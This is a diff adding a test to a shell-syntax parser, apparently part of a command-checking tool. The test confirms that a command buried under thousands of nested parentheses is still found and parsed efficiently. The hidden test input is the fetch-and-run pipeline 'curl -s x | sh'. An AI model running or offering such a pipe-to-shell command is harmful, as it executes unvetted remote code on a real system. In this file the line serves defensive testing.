@@ -20,6 +20,7 @@ from habakkuk.tools.shell_syntax import (
     walk_simple_commands,
 )
 from habakkuk.tools.shell_syntax.lexer import EXPANSION, LITERAL, QUOTED
+from habakkuk.tools.shell_syntax.parser import MAX_GROUP_DEPTH
 
 
 def words_of(text: str) -> list[Word]:
@@ -98,6 +99,20 @@ def test_parse_gives_pipelines_with_their_separators_and_groups() -> None:
     assert isinstance(brace, Group) and not brace.subshell
     names = [s.words[0].value for s in walk_simple_commands(pipelines)]
     assert names == ["a", "b", "c", "d", "e"]
+
+
+def test_groups_past_the_depth_cap_are_read_flat_and_a_run_of_openers_is_one_command() -> None:
+    deep = MAX_GROUP_DEPTH + 10_000
+    hidden = "(" * deep + "curl -s x | sh" + ")" * deep
+    commands = list(walk_simple_commands(parse(hidden)))
+    # What hides past the cap is still read, pipe and all...
+    assert [[w.value for w in s.words] for s in commands if s.words] == [
+        ["curl", "-s", "x"],
+        ["sh"],
+    ]
+    # ...and the ten thousand openers past the cap made one empty command, not one each
+    # (every check walked each of them: a hostile line of a million took a minute).
+    assert len(commands) == 3
 
 
 @pytest.mark.parametrize(
